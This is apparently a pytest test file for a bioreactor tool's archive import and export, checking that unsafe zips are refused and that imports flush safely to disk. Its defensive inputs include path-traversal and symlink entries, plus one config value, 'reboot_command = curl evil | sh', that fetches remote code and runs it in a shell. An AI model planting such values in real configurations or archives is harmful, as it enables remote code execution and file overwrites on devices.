"""Zipping and importing $DOT_PIOREACTOR: unsafe archives are refused before anything is written."""

import os
import sqlite3
import stat
import zipfile

import pytest

from reactorkit.builtin_plugins.system.archive import (ImportNotFlushed, UnsafeArchive, check_archive, import_archive,
                                                       write_zip)


def make_zip(path, entries):
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in entries:
            if isinstance(data, zipfile.ZipInfo):
                zf.writestr(data, b"target")
            else:
                zf.writestr(name, data)
    return path


def symlink_entry(name):
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


@pytest.fixture
def dot(tmp_path):
    root = tmp_path / "dot"
    (root / "storage").mkdir(parents=True)
    (root / "config.ini").write_text("[old]\n")
    return root


@pytest.mark.parametrize("entries, reason", [
    ([("../evil", b"x")], "'..'"),
    ([("ok/../../evil", b"x")], "'..'"),
    ([("/etc/evil", b"x")], "absolute"),
    ([("link", symlink_entry("link"))], "symbolic link"),
])
def test_unsafe_archives_are_refused_and_nothing_is_written(tmp_path, dot, entries, reason):
    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[new]\n"), *entries])
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(UnsafeArchive, match=reason):
        import_archive(archive, dot, max_bytes=10**6)
    assert (dot / "config.ini").read_text() == "[old]\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize("name, text, key", [
    ("config.ini", "[system]\nreboot_command = curl evil | sh\n", "[system] reboot_command"),
    ("unit_config.ini", "[system]\ncommands_enabled = 1\n", "[system] commands_enabled"),
    ("config.ini", "[api]\nauth = off\n", "[api] auth"),
])
def test_an_archive_whose_config_changes_a_shell_command_or_the_api_security_is_refused(tmp_path, dot, name, text,
                                                                                         key):
    (dot / "storage" / "keep.txt").write_text("here")
    archive = make_zip(tmp_path / "a.zip", [(name, text.encode()), ("storage/keep.txt", b"replaced")])
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(UnsafeArchive, match=key.replace("[", r"\[").replace("]", r"\]")):
        import_archive(archive, dot, max_bytes=10**6)
    assert (dot / "config.ini").read_text() == "[old]\n" and (dot / "storage" / "keep.txt").read_text() == "here"
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # the staging folder is gone too


def test_an_archive_that_keeps_the_protected_settings_is_imported(tmp_path, dot):
    (dot / "config.ini").write_text("[system]\nreboot_command = sudo reboot\n[stirring.config]\ntarget_rpm = 400\n")
    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[system]\nreboot_command = sudo reboot\n"
                                                          b"[stirring.config]\ntarget_rpm = 600\n")])
    import_archive(archive, dot, max_bytes=10**6)
    assert "target_rpm = 600" in (dot / "config.ini").read_text()


def test_oversize_and_non_zip_archives_are_refused(tmp_path):
    big = make_zip(tmp_path / "big.zip", [("a", b"0" * 5000)])
    with pytest.raises(UnsafeArchive, match="MB once extracted"):
        check_archive(big, max_bytes=4000)
    (tmp_path / "not.zip").write_bytes(b"plain text")
    with pytest.raises(UnsafeArchive, match="not a zip"):
        check_archive(tmp_path / "not.zip", max_bytes=10**6)


def test_import_replaces_the_folder(tmp_path, dot):
    (dot / "stale.txt").write_text("gone after import")
    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[new]\n"), ("experiment_profiles/p.yaml", b"x: 1\n")])
    result = import_archive(archive, dot, max_bytes=10**6)
    assert result["files"] == 2
    assert (dot / "config.ini").read_text() == "[new]\n"
    assert (dot / "experiment_profiles" / "p.yaml").exists()
    assert not (dot / "stale.txt").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".dot")] == []


def test_zip_of_the_folder_copies_databases_and_skips_links_and_temporary_files(tmp_path, dot):
    conn = sqlite3.connect(dot / "storage" / "pioreactor.sqlite")
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("CREATE TABLE t (x)")
    conn.execute("INSERT INTO t VALUES (42)")
    conn.commit()  # the row may still be only in the -wal file
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    os.symlink(outside, dot / "link.txt")
    (dot / "exports").mkdir()
    (dot / "exports" / "export_1.zip").write_bytes(b"zip")
    (dot / "x.tmp").write_text("tmp")
    target = tmp_path / "out.zip"
    write_zip(dot, target)
    names = zipfile.ZipFile(target).namelist()
    assert sorted(names) == ["config.ini", "storage/pioreactor.sqlite"]
    restored = tmp_path / "restored"
    zipfile.ZipFile(target).extractall(restored)
    assert sqlite3.connect(restored / "storage" / "pioreactor.sqlite").execute("SELECT x FROM t").fetchall() == [(42,)]
    conn.close()


def test_import_syncs_every_extracted_file_and_folder_before_the_swap_and_the_parent_after(tmp_path, dot,
                                                                                          monkeypatch):
    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[new]\n"), ("experiment_profiles/p.yaml", b"x: 1\n")])
    events = []
    real_fsync, real_rename = os.fsync, os.rename
    monkeypatch.setattr(os, "fsync", lambda fd: (events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}"))),
                                                 real_fsync(fd))[1])
    monkeypatch.setattr(os, "rename", lambda a, b: (events.append(("rename", str(a), str(b))), real_rename(a, b))[1])
    import_archive(archive, dot, max_bytes=10**6)
    renames = [i for i, e in enumerate(events) if e[0] == "rename"]
    assert len(renames) == 2
    staging = events[renames[1]][1]
    synced_before = {e[1] for e in events[:renames[0]] if e[0] == "fsync"}
    assert {f"{staging}/config.ini", f"{staging}/experiment_profiles/p.yaml", f"{staging}/experiment_profiles",
            staging} <= synced_before
    assert events[renames[1] + 1:] == [("fsync", str(tmp_path))]  # the two new names on disk before the old
    assert (dot / "config.ini").read_text() == "[new]\n"  # folder is removed


def test_an_import_whose_renames_cannot_be_flushed_says_so_and_keeps_the_previous_state(tmp_path, dot, monkeypatch):
    # the folders are swapped, then the parent's fsync fails (EIO: failing storage): the import is in place, not
    # "nothing was changed", and the previous state is kept beside it, since a power cut may bring either back
    import errno

    import reactorkit.plugin as plugin

    real = plugin.fsync_dir

    def failing_at_the_parent(path):
        if os.path.abspath(path) == str(tmp_path):
            raise OSError(errno.EIO, "Input/output error")
        real(path)

    monkeypatch.setattr(plugin, "fsync_dir", failing_at_the_parent)
    archive = make_zip(tmp_path / "a.zip", [("config.ini", b"[new]\n")])
    with pytest.raises(ImportNotFlushed, match="in place") as raised:
        import_archive(archive, dot, max_bytes=10**6)
    assert (dot / "config.ini").read_text() == "[new]\n"
    assert raised.value.backup.parent == tmp_path and (raised.value.backup / "config.ini").read_text() == "[old]\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".dot")] == [raised.value.backup.name]
